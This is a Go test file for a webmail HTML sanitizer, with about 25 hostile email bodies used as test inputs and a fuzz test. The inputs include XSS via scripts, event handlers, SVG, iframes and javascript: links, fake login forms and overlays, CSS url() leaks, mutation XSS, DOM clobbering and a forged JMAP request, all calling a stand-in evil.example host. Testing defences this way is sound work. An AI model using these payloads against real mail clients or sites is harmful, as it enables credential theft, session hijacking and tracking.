package webmail

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// An attack is an HTML body that wants more than to be read. EVIL is where it calls home.
type attack struct{ name, html string }

// attacks are what the page must survive; the browser test sends them too.
func attacks() []attack {
	return []attack{
		{"script", `<p>hello</p><script>fetch("EVIL/1")</script><script src="EVIL/1b"></script>`},
		{"event", `<p>hello</p><img src=x onerror="fetch('EVIL/2')"><b onmouseover="alert(1)" onclick=alert(2)>b</b><body onload="alert(3)">`},
		{"svg", `<p>hello</p><svg onload="fetch('EVIL/3')"><image href="EVIL/3b"/><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`},
		{"frame", `<p>hello</p><iframe srcdoc="<script>parent.fetch('EVIL/4')</script>"></iframe><iframe src="EVIL/4b"></iframe><frameset><frame src="EVIL/4c"></frameset>`},
		{"javascript link", `<p>hello</p><a id=go href="javascript:fetch('EVIL/5')">click</a><a href=" java&#10;script:alert(1)">click</a><a href="JaVaScRiPt&colon;alert(1)">click</a>`},
		{"data link", `<p>hello</p><a id=go href="data:text/html,<script>fetch('EVIL/6')</script>">click</a><a href="vbscript:x">y</a><a href="blob:x">z</a><a href="file:///etc/passwd">f</a>`},
		{"form", `<p>hello</p><form action="EVIL/7" method=post><input name=password type=password autofocus onfocus="fetch('EVIL/7b')"><button formaction="EVIL/7c">Log in</button></form>`},
		{"refresh", `<p>hello</p><meta http-equiv="refresh" content="0;url=EVIL/8"><meta http-equiv="set-cookie" content="a=b">`},
		{"base", `<base href="EVIL/9/" target="_top"><p>hello</p><a id=go href="relative">click</a><img src="picture.png">`},
		{"style sheet", `<p>hello</p><style>@import url(EVIL/10); p { background: url(EVIL/10b) } @font-face { font-family: x; src: url(EVIL/10c) } p { font-family: x }</style>`},
		{"style attribute", `<p style="background: url(EVIL/11)">hello</p><p style="background:u\72l(EVIL/11b)">x</p><p style="list-style: url('EVIL/11c'); border-image: url(EVIL/11d)">y</p><p style="color: red; width: expression(alert(1))">z</p>`},
		{"link element", `<link rel=stylesheet href="EVIL/12"><link rel=prefetch href="EVIL/12b"><link rel=dns-prefetch href="EVIL/12c"><link rel=icon href="EVIL/12d"><p>hello</p>`},
		{"object", `<p>hello</p><object data="EVIL/13"></object><embed src="EVIL/13b"><applet code="EVIL/13c"></applet><object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>`},
		{"mutation", `<p>hello</p><noscript><p title="</noscript><img src=x onerror=fetch('EVIL/14')>"></noscript><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`},
		{"math", `<p>hello</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('EVIL/15')&gt;"></mglyph></table></mtext></math>`},
		{"link that lies", `<p>hello</p><a id=go href="EVIL/16?session=you">https://bank.example/login</a>`},
		{"tracking", `<p>hello</p><img src="EVIL/17.gif" width=1 height=1><img srcset="EVIL/17b 2x"><picture><source srcset="EVIL/17c"><img alt=x></picture><table background="EVIL/17d"><tr><td background="EVIL/17e">cell</table><img src="//evil.example/17f"><img src="/webmail/17g">`},
		{"media", `<p>hello</p><video poster="EVIL/18" src="EVIL/18b" autoplay></video><audio src="EVIL/18c" autoplay></audio><input type=image src="EVIL/18d"><track src="EVIL/18e">`},
		{"overlay", `<p>hello</p><div style="position: fixed; inset: 0; z-index: 9999; background-color: white"><a id=go href="EVIL/19" target="_top">Your session ended: log in</a></div><dialog open>x</dialog>`},
		{"forged request", `<p>hello</p><form id=f method=post enctype="text/plain" action="/jmap/api"><input name='{"using":[],"x":"' value='"}'></form><script>f.submit()</script><img src="/jmap/api"><img src="/.well-known/jmap">`},
		{"unclosed", "<p>hello</p><scr\x00ipt>fetch('EVIL/21')</scr\x00ipt><img src='x' onerror='alert(1)' <img src=x onerror=fetch('EVIL/21b')//<!-- <b>--!><a href=\"javascript:alert(1)"},
		{"clobber", `<p>hello</p><a id=parent name=opener></a><img name=cookie id=body><details open ontoggle="fetch('EVIL/22')">x</details><marquee onstart=alert(1)>y</marquee><a id=go ping="EVIL/22b" href="https://example.com/">https://example.com/</a>`},
		{"template", `<p>hello</p><template shadowrootmode=open><img src=x onerror="fetch('EVIL/23')"><slot></slot></template><xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`},
		{"quotation", `<p>hello</p><details open ontoggle="fetch('EVIL/25')"><summary onclick="fetch('EVIL/25b')">Quoted text</summary><blockquote cite="EVIL/25c"><img src="EVIL/25d"><details open><script>alert(1)</script></details></blockquote></details>`},
		{"depth", `<p>hello</p>` + strings.Repeat("<div>", 5000) + `<img src="EVIL/24">`},
	}
}

// TestAttacks cleans each attack and looks at what is left.
func TestAttacks(t *testing.T) {
	if n := len(attacks()); n < 20 {
		t.Fatalf("%d attacks", n)
	}
	for _, a := range attacks() {
		for _, images := range []bool{false, true} {
			c := cleaner{images: images}
			got := c.clean(strings.ReplaceAll(a.html, "EVIL", "https://evil.example"))
			if !strings.Contains(got, "hello") {
				t.Errorf("%s: the text is gone: %s", a.name, got)
			}
			root, err := html.Parse(strings.NewReader(frameHead + got))
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, a.name, root, images)
			if again := (&cleaner{images: images}).clean(got); again != "<div>"+got+"</div>" && !strings.Contains(got, `class="address"`) && !strings.Contains(got, "<details>") {
				t.Errorf("%s: cleaned once %s\ncleaned twice %s", a.name, got, again)
			}
		}
	}
}

// harmless reports what a browser would find in a page to act upon.
func harmless(t *testing.T, name string, n *html.Node, images bool) {
	t.Helper()
	if n.Type == html.ElementNode {
		switch n.Data {
		case "html", "head", "body", "title", "meta":
		case "style":
			if n.Parent.Data != "head" {
				t.Errorf("%s: a style sheet", name)
			}
		default:
			if !kept(n.DataAtom) && n.DataAtom != atom.Details && n.DataAtom != atom.Summary || n.Namespace != "" {
				t.Errorf("%s: element %s", name, n.Data)
			}
		}
		for _, a := range n.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "id", a.Key == "name" && n.Data != "meta", a.Key == "srcset", a.Key == "background", a.Key == "ping", a.Key == "action":
				t.Errorf("%s: attribute %s of %s", name, a.Key, n.Data)
			case a.Key == "href" && !strings.HasPrefix(a.Val, "https://"), a.Key == "target" && a.Val != "_blank":
				t.Errorf("%s: %s=%s", name, a.Key, a.Val)
			case a.Key == "src" && !(images && strings.HasPrefix(a.Val, "https://")):
				t.Errorf("%s: picture %s", name, a.Val)
			case a.Key == "style" && (strings.Contains(a.Val, "url") || strings.Contains(a.Val, "position") || strings.Contains(a.Val, "(")):
				t.Errorf("%s: style %s", name, a.Val)
			}
		}
	}
	for child := n.FirstChild; child != nil; child = child.NextSibling {
		harmless(t, name, child, images)
	}
}

func TestClean(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		remote   int
	}{
		{"a < b & c", "<div>a &lt; b &amp; c</div>", 0},
		{`<P Style="Color:RED; position:fixed;">x<custom-thing>y</custom-thing></P>`, `<div><p style="color: RED">xy</p></div>`, 0},
		{`<a href="https://a.example/x">here</a>`, `<div><a href="https://a.example/x" rel="noopener noreferrer nofollow" target="_blank">here</a><span class="address"> [https://a.example/x] </span></div>`, 0},
		{`<a href="https://a.example">https://a.example</a>`, `<div><a href="https://a.example" rel="noopener noreferrer nofollow" target="_blank">https://a.example</a></div>`, 0},
		{`<a href="mailto:a@b.example">a@b.example</a>`, `<div><a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">a@b.example</a></div>`, 0},
		{`<img src="cid:a%40b" alt="A"><img src="cid:other" alt="B"><img src="https://x.example/c" alt="C">`, `<div><img src="data:x" alt="A"/>[B][C]</div>`, 1},
		{`<table bgcolor=red><tr><td colspan=2>x</table>`, `<div><table bgcolor="red"><tbody><tr><td colspan="2">x</td></tr></tbody></table></div>`, 0},
		{"<blockquote>a<blockquote>b</blockquote></blockquote>c", "<div><details><summary>Quoted text</summary><blockquote>a<blockquote>b</blockquote></blockquote></details>c</div>", 0},
		{"<details open><summary>x</summary>y</details>", "<div>xy</div>", 0},
		{"", "<div></div>", 0},
	} {
		c := cleaner{picture: func(cid string) string {
			if cid == "a@b" {
				return "data:x"
			}
			return ""
		}}
		if got := c.clean(tt.in); got != tt.want || c.remote != tt.remote {
			t.Errorf("%s\ngot  %s, %d\nwant %s, %d", tt.in, got, c.remote, tt.want, tt.remote)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, a := range attacks() {
		f.Add(a.html)
	}
	f.Fuzz(func(t *testing.T, body string) {
		got := (&cleaner{}).clean(body)
		root, err := html.Parse(strings.NewReader(frameHead + got))
		if err != nil {
			t.Fatal(err)
		}
		fuzzed(t, root)
		if text, lines := plainText(got); lines < 0 || len(text) > 100*len(got) {
			t.Fatalf("a text of %d octets from %d", len(text), len(got))
		}
	})
}

// fuzzed is the part of harmless that any text must pass.
func fuzzed(t *testing.T, n *html.Node) {
	if n.Type == html.ElementNode && n.DataAtom != 0 && dropped(n.DataAtom) && (n.Parent == nil || n.Parent.Data != "head") && n.Data != "head" {
		t.Fatalf("element %s", n.Data)
	}
	for _, a := range n.Attr {
		if strings.HasPrefix(a.Key, "on") || a.Key == "src" || strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
			t.Fatalf("attribute %s=%s of %s", a.Key, a.Val, n.Data)
		}
	}
	for child := n.FirstChild; child != nil; child = child.NextSibling {
		fuzzed(t, child)
	}
}
